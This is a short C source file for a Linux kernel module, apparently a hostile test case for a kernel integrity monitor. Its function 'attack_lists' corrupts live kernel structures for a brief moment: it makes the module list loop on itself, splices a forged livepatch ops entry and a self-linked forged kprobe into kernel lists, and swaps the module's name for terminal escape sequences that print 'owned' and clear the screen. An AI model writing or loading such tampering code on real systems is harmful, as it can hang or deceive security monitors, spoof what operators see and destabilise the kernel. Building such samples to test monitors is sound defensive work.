// SPDX-License-Identifier: GPL-2.0
/* What a monitor may read of a kernel leads in circles, or has names that are no names, for a moment. */
#include <linux/delay.h>
#include <linux/kprobes.h>
#include <linux/module.h>
#include <linux/string.h>
#include "hostile.h"

#define MOMENT_MS 20

/* As `struct klp_ops` begins (kernel/livepatch/patch.h). */
static struct { struct list_head node, functions; u64 rest[64]; } forged_ops;
static struct kprobe forged_probe;

unsigned int attack_lists(void)
{
	struct module *me = THIS_MODULE;
	struct list_head *next = me->list.next, *ops = (void *)ops_at, *first = NULL;
	struct hlist_head *bucket = (void *)probes_at;
	char name[sizeof(me->name)];

	memcpy(name, me->name, sizeof(name));
	forged_ops.node.next = &forged_ops.node;
	INIT_LIST_HEAD(&forged_ops.functions);
	forged_probe.addr = (void *)(target + 1);
	forged_probe.hlist.next = &forged_probe.hlist;

	/* Readers on other CPUs go round until it is over. */
	preempt_disable();
	strscpy(me->name, "\033]0;owned\007\033[2J", sizeof(me->name));
	WRITE_ONCE(me->list.next, &me->list);
	if (ops && list_empty(ops)) {
		first = ops->next;
		WRITE_ONCE(ops->next, &forged_ops.node);
	}
	if (bucket && !bucket[7].first)
		WRITE_ONCE(bucket[7].first, &forged_probe.hlist);
	else
		bucket = NULL;
	mdelay(MOMENT_MS);
	if (bucket)
		WRITE_ONCE(bucket[7].first, NULL);
	if (first)
		WRITE_ONCE(ops->next, first);
	WRITE_ONCE(me->list.next, next);
	memcpy(me->name, name, sizeof(name));
	preempt_enable();
	return 0;
}
